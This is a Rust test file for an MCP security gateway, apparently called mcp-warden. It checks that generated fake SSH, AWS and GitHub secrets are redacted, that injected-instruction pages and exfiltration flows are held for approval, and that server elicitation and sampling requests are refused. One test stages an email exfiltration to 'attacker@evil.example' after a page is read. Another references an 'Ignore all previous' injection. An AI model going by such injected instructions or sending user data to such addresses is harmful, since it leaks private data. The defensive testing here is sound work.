//! Response inspection end to end: secrets in files server-filesystem
//! reads (generated with correct formats, never real ones) redacted or
//! blocked and never written to the audit log or the logs; the trifecta
//! guard holding a `sends_out` call in a tainted session; a server's
//! requests for a password and for injected sampling refused; a token cut
//! across SSE lines and body chunks redacted all the same; and
//! `mcp-warden explain --result`.

mod common;

use common::approval::{admin_section, TOKEN};
use common::binary::ServedGateway;
use common::client::{call, call_text, connect, mcp_error, text_of};
use common::peers::filesystem_upstream;
use common::raw::{messages, RawSession, SSE_OR_JSON};
use common::{all_audit_records, demo_bin, start_gateway, wait_for_audit, write_config};
use rand::Rng;
use serde_json::{json, Value};
use std::path::{Path, PathBuf};
use std::time::Duration;

const FILES_POLICY: &str = r#"
mode = "enforce"
[defaults]
tools = "deny"
[[rules]]
id = "files-read"
server = "files"
tools = ["read_text_file", "list_directory"]
action = "allow"
"#;

fn crc32(data: &[u8]) -> u32 {
    let mut crc = !0u32;
    for &byte in data {
        crc ^= u32::from(byte);
        for _ in 0..8 {
            crc = if crc & 1 == 1 { (crc >> 1) ^ 0xEDB8_8320 } else { crc >> 1 };
        }
    }
    !crc
}

fn random_from(alphabet: &[u8], len: usize) -> String {
    let mut rng = rand::rng();
    (0..len).map(|_| alphabet[rng.random_range(0..alphabet.len())] as char).collect()
}

const BASE62: &[u8] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";

/// A classic GitHub token of the published format (`ghp_`, 30 random base62
/// characters, their CRC-32 in 6 base62 digits): well formed, never issued.
fn github_token() -> String {
    let body = random_from(BASE62, 30);
    let mut crc = u64::from(crc32(body.as_bytes()));
    let mut check = [b'0'; 6];
    for slot in check.iter_mut().rev() {
        *slot = BASE62[(crc % 62) as usize];
        crc /= 62;
    }
    format!("ghp_{body}{}", String::from_utf8(check.to_vec()).unwrap())
}

struct Planted {
    key_body: String,
    access_key: String,
    secret_key: String,
    token: String,
}

/// An OpenSSH private key, an `.env` with AWS keys and a JSON file with a
/// GitHub token, written into `root`.
fn plant(root: &Path) -> Planted {
    let b64 = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let key_body = format!("b3BlbnNzaC1rZXktdjEAAAAA{}", random_from(b64, 46));
    let key = format!(
        "-----BEGIN OPENSSH PRIVATE KEY-----\n{key_body}\n{}\n-----END OPENSSH PRIVATE KEY-----\n",
        random_from(b64, 70)
    );
    std::fs::write(root.join("id_ed25519"), key).unwrap();
    let access_key = format!("AKIA{}", random_from(b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16));
    // Random, with the digit, slash and both cases every real one has.
    let secret_key = format!("{}7/aQ", random_from(b64, 36));
    let env =
        format!("APP_NAME=billing\nAWS_ACCESS_KEY_ID={access_key}\nAWS_SECRET_ACCESS_KEY={secret_key}\nDEBUG=false\n");
    std::fs::write(root.join(".env"), env).unwrap();
    let token = github_token();
    std::fs::write(root.join("settings.json"), json!({"owner": "acme", "github_token": token}).to_string()).unwrap();
    Planted { key_body, access_key, secret_key, token }
}

#[tokio::test]
async fn secrets_in_files_are_redacted_for_the_client_and_never_recorded_or_logged() {
    let workspace = tempfile::tempdir().unwrap();
    let root = workspace.path().canonicalize().unwrap();
    let planted = plant(&root);
    let dir = tempfile::tempdir().unwrap();
    let config = write_config(dir.path(), &filesystem_upstream(&root), FILES_POLICY);
    let gw = ServedGateway::start_with_env(&config, &[("RUST_LOG", "debug")]).await;
    let client = connect(&gw.mcp_url).await;

    let read = |file: &str| call_text(&client, "files__read_text_file", json!({"path": root.join(file)}));
    let key = read("id_ed25519").await;
    assert_eq!(key.trim_end(), "[REDACTED:private_key]", "{key}");
    let env = read(".env").await;
    assert!(env.contains("APP_NAME=billing") && env.contains("DEBUG=false"), "the rest stays: {env}");
    assert!(env.contains("[REDACTED:aws_access_key]") && env.contains("[REDACTED:aws_secret_key]"), "{env}");
    let settings = read("settings.json").await;
    assert!(settings.contains("[REDACTED:github_token]") && settings.contains("acme"), "{settings}");
    client.cancel().await.unwrap();

    let audit = dir.path().join("audit.jsonl");
    let records = wait_for_audit(&audit, |r| r.iter().filter(|r| r["inspection"].is_object()).count() >= 3).await;
    let kinds: Vec<&str> = records
        .iter()
        .filter_map(|r| r["inspection"]["findings"].as_array())
        .flatten()
        .filter_map(|f| f["kind"].as_str())
        .collect();
    for kind in ["private_key", "aws_access_key", "aws_secret_key", "github_token"] {
        assert!(kinds.contains(&kind), "{kind} audited: {kinds:?}");
    }
    // Claude Desktop's path: the stdio front redacts the same way.
    let stdio = common::client::connect_stdio(&config).await;
    let settings_over_stdio =
        call_text(&stdio, "files__read_text_file", json!({"path": root.join("settings.json")})).await;
    assert!(settings_over_stdio.contains("[REDACTED:github_token]"), "{settings_over_stdio}");
    stdio.cancel().await.unwrap();
    let inspected = records.iter().find(|r| r["inspection"].is_object()).unwrap();
    assert_eq!(inspected["inspection"]["action"], "redact");
    assert_eq!(inspected["inspection"]["findings"][0]["at"], "/content/0/text");
    let mut on_disk = std::fs::read_to_string(&audit).unwrap();
    on_disk.push_str(&std::fs::read_to_string(dir.path().join("audit.2.jsonl")).unwrap_or_default());
    let logged = gw.log.lines().join("\n");
    for value in [&planted.key_body, &planted.access_key, &planted.secret_key, &planted.token] {
        assert!(!on_disk.contains(value.as_str()), "a secret reached the audit file");
        assert!(!logged.contains(value.as_str()), "a secret reached the log");
    }
}

#[tokio::test]
async fn with_block_the_client_gets_an_error_result_naming_the_detector() {
    let workspace = tempfile::tempdir().unwrap();
    let root = workspace.path().canonicalize().unwrap();
    let planted = plant(&root);
    let policy = format!(
        "{FILES_POLICY}\n[inspect]\nsecrets = \"redact\"\n[[inspect.overrides]]\nserver = \"files\"\ntools = [\"read_text_file\"]\nsecrets = \"block\"\n"
    );
    let gw = start_gateway(&filesystem_upstream(&root), &policy).await;
    let client = connect(&gw.url).await;
    let result =
        client.call_tool(call("files__read_text_file", json!({"path": root.join("settings.json")}))).await.unwrap();
    assert_eq!(result.is_error, Some(true));
    let text = text_of(&result);
    assert!(text.contains("secrets detector found github_token"), "{text}");
    assert!(!text.contains(&planted.token));
    // The override names read_text_file only: a listing is still redacted, not blocked.
    let listing = call_text(&client, "files__list_directory", json!({"path": root})).await;
    assert!(listing.contains("settings.json"), "{listing}");
    client.cancel().await.unwrap();
    let records = wait_for_audit(&gw.audit, |r| r.iter().any(|r| r["inspection"]["action"] == "block")).await;
    assert!(records.iter().any(|r| r["inspection"]["findings"][0]["kind"] == "github_token"));
}

fn mailroom(dir: &Path) -> String {
    format!(
        "[[upstreams]]\nname = \"mail\"\ntransport = \"stdio\"\ncommand = {:?}\nenv = {{ MAILROOM_LOG = {:?} }}\n",
        demo_bin().with_file_name("mailroom_upstream").display().to_string(),
        dir.join("mail.log").display().to_string()
    )
}

const MAIL_POLICY: &str = r#"
mode = "enforce"
[defaults]
tools = "deny"
[[rules]]
id = "web"
server = "mail"
tools = ["fetch_page", "ask_for_secrets", "noisy_log"]
action = "allow"
[[rules]]
id = "private"
server = "mail"
tools = ["read_private"]
action = "allow"
labels = ["private_data"]
[[rules]]
id = "send"
server = "mail"
tools = ["send_email"]
action = "allow"
labels = ["sends_out"]
"#;

fn sent(dir: &Path) -> String {
    std::fs::read_to_string(dir.join("mail.log")).unwrap_or_default()
}

/// The first call held for approval, once there is one.
async fn first_pending(http: &reqwest::Client, api: &str) -> Value {
    loop {
        let list: Vec<Value> =
            http.get(format!("{api}/approvals")).bearer_auth(TOKEN).send().await.unwrap().json().await.unwrap();
        if let Some(first) = list.into_iter().next() {
            return first;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

#[tokio::test]
async fn a_session_that_read_untrusted_and_private_data_has_its_send_held_and_a_fresh_one_does_not() {
    let state = tempfile::tempdir().unwrap();
    let admin = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = admin.local_addr().unwrap().port();
    let gw = start_gateway(&format!("{}{}", mailroom(state.path()), admin_section(port)), MAIL_POLICY).await;
    tokio::spawn(mcp_warden::admin::serve(gw.gateway.clone(), admin, Default::default()));
    let api = format!("http://127.0.0.1:{port}/admin/api");
    let http = reqwest::Client::new();

    let tainted = connect(&gw.url).await;
    let page = call_text(&tainted, "mail__fetch_page", json!({})).await;
    assert!(page.contains("Release notes"));
    call_text(&tainted, "mail__read_private", json!({})).await;
    let send = {
        let tainted = tainted.clone();
        tokio::spawn(async move {
            tainted.call_tool(call("mail__send_email", json!({"to": "attacker@evil.example", "body": "x"}))).await
        })
    };
    let pending = first_pending(&http, &api).await;
    assert_eq!(pending["rule"], "flow.untrusted_then_send");
    let why = pending["why"].as_str().unwrap();
    assert!(why.contains("mail/fetch_page") && why.contains("mail/read_private"), "{why}");
    let id = pending["id"].as_str().unwrap();
    let denied = http
        .post(format!("{api}/approvals/{id}/deny"))
        .bearer_auth(TOKEN)
        .json(&json!({"reason": "exfiltration attempt"}))
        .send()
        .await
        .unwrap();
    assert!(denied.status().is_success());
    let err = mcp_error(send.await.unwrap().unwrap_err());
    assert!(err.message.contains("exfiltration attempt"), "{}", err.message);
    assert!(sent(state.path()).is_empty(), "nothing was sent");

    // A session that read nothing untrusted sends straight away.
    let fresh = connect(&gw.url).await;
    call_text(&fresh, "mail__read_private", json!({})).await;
    let done = call_text(&fresh, "mail__send_email", json!({"to": "bob@example.com", "body": "hi"})).await;
    assert_eq!(done, "sent to bob@example.com");
    let records = all_audit_records(&gw.audit);
    let held = records.iter().find(|r| r["rule"] == "flow.untrusted_then_send").expect("the hold is audited");
    assert!(held["reason"].as_str().unwrap().contains("mail/fetch_page"));
    tainted.cancel().await.unwrap();
    fresh.cancel().await.unwrap();
}

#[tokio::test]
async fn with_injection_approve_a_poisoned_page_waits_for_a_person_and_denied_never_reaches_the_model() {
    let state = tempfile::tempdir().unwrap();
    let admin = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = admin.local_addr().unwrap().port();
    let policy = format!("{MAIL_POLICY}\n[inspect]\ninjection = \"approve\"\n");
    let gw = start_gateway(&format!("{}{}", mailroom(state.path()), admin_section(port)), &policy).await;
    tokio::spawn(mcp_warden::admin::serve(gw.gateway.clone(), admin, Default::default()));
    let api = format!("http://127.0.0.1:{port}/admin/api");
    let http = reqwest::Client::new();
    let client = connect(&gw.url).await;
    let fetch = {
        let client = client.clone();
        tokio::spawn(async move { client.call_tool(call("mail__fetch_page", json!({}))).await })
    };
    let pending = first_pending(&http, &api).await;
    assert_eq!(pending["rule"], "inspect.injection");
    assert!(pending["why"].as_str().unwrap().contains("instructions aimed at the model"), "{pending}");
    let id = pending["id"].as_str().unwrap();
    let denied =
        http.post(format!("{api}/approvals/{id}/deny")).bearer_auth(TOKEN).json(&json!({"reason": "poisoned page"}));
    assert!(denied.send().await.unwrap().status().is_success());
    let err = mcp_error(fetch.await.unwrap().unwrap_err());
    assert!(err.message.contains("poisoned page") && !err.message.contains("Ignore all previous"), "{}", err.message);
    client.cancel().await.unwrap();
}

#[tokio::test]
async fn a_servers_request_for_a_password_and_its_injected_sampling_never_reach_the_client() {
    let state = tempfile::tempdir().unwrap();
    let gw = start_gateway(&mailroom(state.path()), MAIL_POLICY).await;
    let mut init = common::raw::initialize(common::raw::LATEST);
    init["params"]["capabilities"] = json!({"elicitation": {}, "sampling": {}});
    let session = RawSession::open_with(&gw.url, &init).await;
    let call = json!({"jsonrpc": "2.0", "id": 5, "method": "tools/call", "params": {"name": "mail__ask_for_secrets", "arguments": {}}});
    let seen = messages(session.request(SSE_OR_JSON, call.to_string()).send().await.unwrap()).await;
    assert!(seen.iter().all(|m| m.get("method").is_none()), "the client saw a server request: {seen:?}");
    let answer = seen.iter().find(|m| m["id"] == 5).expect("the call is answered");
    let text = answer["result"]["content"][0]["text"].as_str().unwrap();
    assert!(text.contains("elicitation refused") && text.contains("asks the user for a secret"), "{text}");
    assert!(text.contains("sampling refused") && text.contains("injected instructions"), "{text}");
    let records = wait_for_audit(&gw.audit, |r| r.iter().filter(|r| r["rule"] == "server_requests").count() >= 2).await;
    let refused: Vec<&str> =
        records.iter().filter(|r| r["rule"] == "server_requests").filter_map(|r| r["method"].as_str()).collect();
    assert!(refused.contains(&"elicitation/create") && refused.contains(&"sampling/createMessage"), "{refused:?}");
}

#[tokio::test]
async fn a_log_notification_carrying_a_key_reaches_the_client_redacted() {
    let state = tempfile::tempdir().unwrap();
    let gw = start_gateway(&mailroom(state.path()), MAIL_POLICY).await;
    let session = RawSession::open(&gw.url).await;
    let call = json!({"jsonrpc": "2.0", "id": 3, "method": "tools/call", "params": {"name": "mail__noisy_log", "arguments": {}}});
    let seen = messages(session.request(SSE_OR_JSON, call.to_string()).send().await.unwrap()).await;
    let log = seen.iter().find(|m| m["method"] == "notifications/message").expect("the log notification is relayed");
    assert_eq!(log["params"]["data"], "connected with key [REDACTED:private_key]", "{log}");
    assert!(seen.iter().any(|m| m["id"] == 3));
}

#[test]
fn explain_shows_what_a_result_would_become() {
    let dir = tempfile::tempdir().unwrap();
    let config: PathBuf = write_config(dir.path(), &mailroom(dir.path()), MAIL_POLICY);
    let token = github_token();
    let result = json!({"content": [{"type": "text", "text": format!("token: {token}")}]});
    let out = std::process::Command::new(common::warden_bin())
        .args(["explain", "--config", config.to_str().unwrap(), "--tool", "mail__read_private", "--json", "--result"])
        .arg(result.to_string())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let shown: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(shown["result"]["action"], "redact");
    assert_eq!(shown["result"]["findings"][0]["kind"], "github_token");
    assert_eq!(shown["result"]["result"]["content"][0]["text"], "token: [REDACTED:github_token]");
    assert!(!String::from_utf8_lossy(&out.stdout).contains(&token));
}

/// A Streamable HTTP MCP server whose one tool answers over SSE the way a
/// slow or awkward server may: a progress notification first, then the
/// result as one event whose JSON is spread over several `data:` lines,
/// sent in body chunks that cut the token in the middle, a pause between.
async fn trickling_upstream(token: String) -> String {
    use axum::body::{Body, Bytes};
    use axum::http::header;
    use axum::response::IntoResponse;
    use futures::StreamExt;
    common::scripted::scripted_upstream("config", move |id| {
        let progress = json!({"jsonrpc": "2.0", "method": "notifications/progress",
            "params": {"progressToken": "p", "progress": 1}});
        // New lines only where JSON allows whitespace: each becomes a
        // `data:` line the event is joined from.
        let event = format!(
            "event: message\ndata: {{\"jsonrpc\": \"2.0\", \"id\": {id},\ndata: \"result\": {{\"content\": [\ndata: {{\"type\": \"text\", \"text\": \"deploy token {token} (rotate monthly)\"}}]}}}}\n\n"
        );
        let cut = event.find(&token).unwrap() + token.len() / 2;
        let pieces = vec![
            format!("data: {progress}\n\n"),
            event[..cut - 10].to_string(),
            event[cut - 10..cut].to_string(),
            event[cut..].to_string(),
        ];
        let body = futures::stream::iter(pieces).then(|piece| async move {
            tokio::time::sleep(Duration::from_millis(30)).await;
            Ok::<_, std::io::Error>(Bytes::from(piece))
        });
        ([(header::CONTENT_TYPE, "text/event-stream")], Body::from_stream(body)).into_response()
    })
    .await
}

#[tokio::test]
async fn a_token_cut_across_sse_lines_and_body_chunks_is_still_redacted() {
    let token = github_token();
    let upstream = trickling_upstream(token.clone()).await;
    let gw = start_gateway(
        &format!("[[upstreams]]\nname = \"trickle\"\ntransport = \"http\"\nurl = \"{upstream}\"\n"),
        common::ALLOW_ALL,
    )
    .await;
    let client = connect(&gw.url).await;
    let text = call_text(&client, "trickle__config", json!({})).await;
    assert_eq!(text, "deploy token [REDACTED:github_token] (rotate monthly)");
    client.cancel().await.unwrap();
    let records = wait_for_audit(&gw.audit, |r| r.iter().any(|r| r["inspection"].is_object())).await;
    let inspected = records.iter().find(|r| r["inspection"].is_object()).unwrap();
    assert_eq!(inspected["inspection"]["findings"][0]["kind"], "github_token");
    assert!(!std::fs::read_to_string(&gw.audit).unwrap().contains(&token));
}
